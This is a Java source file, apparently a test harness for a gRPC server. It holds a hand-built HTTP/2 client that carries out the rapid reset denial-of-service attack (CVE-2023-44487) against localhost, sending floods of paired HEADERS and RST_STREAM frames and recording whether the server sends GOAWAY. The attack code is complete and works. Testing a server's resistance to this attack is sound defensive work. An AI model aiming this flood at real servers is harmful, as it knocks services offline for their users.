package org.persite.server;

import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicLong;

/**
 * A hostile HTTP/2 client written frame by frame (RFC 9113, HPACK literals of RFC 7541): the connection preface,
 * then for stream after stream a HEADERS frame that opens a gRPC call and, at once, an RST_STREAM that cancels
 * it: the rapid reset attack (CVE-2023-44487). A reader thread answers the server's SETTINGS and drains what it
 * sends. Nothing here is a gRPC client; it is what a gRPC server meets on the open internet.
 */
final class Http2Flood implements AutoCloseable {
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int GOAWAY = 7;
    private static final int END_HEADERS = 0x4;
    private static final int ACK = 0x1;
    private static final int CANCEL = 0x8;

    private final Socket socket;
    private final OutputStream out;
    private final byte[] headerBlock;
    private final Thread reader;
    private int nextStream = 1;
    /** Pairs (HEADERS + RST_STREAM) written so far. */
    final AtomicLong resets = new AtomicLong();
    /** Whether the server sent GOAWAY (it closed the connection on us). */
    volatile boolean goAway;
    volatile boolean closedByServer;

    Http2Flood(int port, String path) throws IOException {
        socket = new Socket("127.0.0.1", port);
        socket.setTcpNoDelay(true);
        out = socket.getOutputStream();
        headerBlock = headers(":method", "POST", ":scheme", "http", ":path", path, ":authority", "127.0.0.1:" + port, "content-type",
                "application/grpc", "te", "trailers");
        synchronized (out) {
            out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            out.write(frame(SETTINGS, 0, 0, new byte[0]));
            out.flush();
        }
        reader = new Thread(this::read, "http2-flood-reader");
        reader.setDaemon(true);
        reader.start();
    }

    /** Opens and at once cancels {@code pairs} streams, in one write. */
    void burst(int pairs) throws IOException {
        ByteBuffer b = ByteBuffer.allocate(pairs * (9 + headerBlock.length + 9 + 4));
        for (int i = 0; i < pairs; i++) {
            int id = nextStream;
            nextStream += 2;
            b.put(frame(HEADERS, END_HEADERS, id, headerBlock));
            b.put(frame(RST_STREAM, 0, id, ByteBuffer.allocate(4).putInt(CANCEL).array()));
        }
        synchronized (out) {
            out.write(b.array(), 0, b.position());
            out.flush();
        }
        resets.addAndGet(pairs);
    }

    private void read() {
        try (DataInputStream in = new DataInputStream(socket.getInputStream())) {
            byte[] head = new byte[9];
            while (true) {
                in.readFully(head);
                int length = ((head[0] & 0xff) << 16) | ((head[1] & 0xff) << 8) | (head[2] & 0xff);
                int type = head[3] & 0xff;
                int flags = head[4] & 0xff;
                in.readFully(new byte[length]);
                if (type == SETTINGS && (flags & ACK) == 0) {
                    synchronized (out) {
                        out.write(frame(SETTINGS, ACK, 0, new byte[0]));
                        out.flush();
                    }
                } else if (type == GOAWAY) {
                    goAway = true;
                }
            }
        } catch (IOException e) {
            closedByServer = true;
        }
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        ByteBuffer b = ByteBuffer.allocate(9 + payload.length);
        b.put((byte) (payload.length >>> 16)).put((byte) (payload.length >>> 8)).put((byte) payload.length);
        b.put((byte) type).put((byte) flags).putInt(stream & 0x7fffffff).put(payload);
        return b.array();
    }

    /** HPACK: each field a "literal header field without indexing, new name", no Huffman coding (names and values under 127 bytes). */
    private static byte[] headers(String... nameValue) {
        ByteBuffer b = ByteBuffer.allocate(1024);
        for (int i = 0; i < nameValue.length; i += 2) {
            b.put((byte) 0);
            for (String s : new String[] {nameValue[i], nameValue[i + 1]}) {
                byte[] bytes = s.getBytes(StandardCharsets.US_ASCII);
                b.put((byte) bytes.length).put(bytes);
            }
        }
        byte[] block = new byte[b.position()];
        b.flip().get(block);
        return block;
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }
}
